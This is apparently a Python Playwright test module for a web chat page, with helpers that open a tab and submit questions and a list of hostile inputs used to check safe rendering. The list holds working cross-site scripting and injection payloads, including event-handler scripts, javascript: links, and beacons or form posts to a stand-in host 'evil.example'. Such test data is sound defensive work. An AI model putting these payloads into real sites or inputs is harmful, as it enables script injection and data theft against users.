"""What a visitor does, and what a hostile one writes."""

from __future__ import annotations

from playwright.sync_api import Locator, expect
from playwright.sync_api import Page as Tab

# Each would do something if it were taken for HTML, Markdown, LaTeX or an address.
HOSTILE = (
    '<script>document.title="owned"</script>',
    '<img src="http://evil.example/beacon.png" onerror="document.title=1">',
    '<form action="http://evil.example/steal"><input name="q"><button>Go</button></form>',
    '<div style="position:fixed;inset:0;background:red;z-index:9999">overlay</div>',
    '<svg onload="document.title=2"></svg><math><mtext></mtext></math>',
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/x.css>",
    '</mark></article></section></div><iframe src="http://evil.example/"></iframe>',
    "![beacon](http://evil.example/md.png) [click](javascript:document.title=3) $$\\href{javascript:alert(1)}{x}$$",
    "&lt;b&gt; &#x3c;script&#x3e; \u202eevil\u202c {{7*7}} ${7*7}",
)


def open_tab(page: Tab, address: str) -> None:
    page.goto(address)
    expect(page.locator("#nd-box textarea")).to_be_enabled(timeout=60_000)


def ask(tab: Tab, question: str) -> Locator:
    """Ask, wait for the end of the answer, and give the turn."""
    number = tab.locator(".turn").count() + 1
    tab.locator("#nd-box textarea").fill(question)
    tab.locator("#nd-box textarea").press("Enter")
    turn = tab.locator(f'.turn[data-turn="{number}"]')
    expect(turn.locator(".answer:is(.done, .failed, .stopped)")).to_be_visible(timeout=30_000)
    return turn
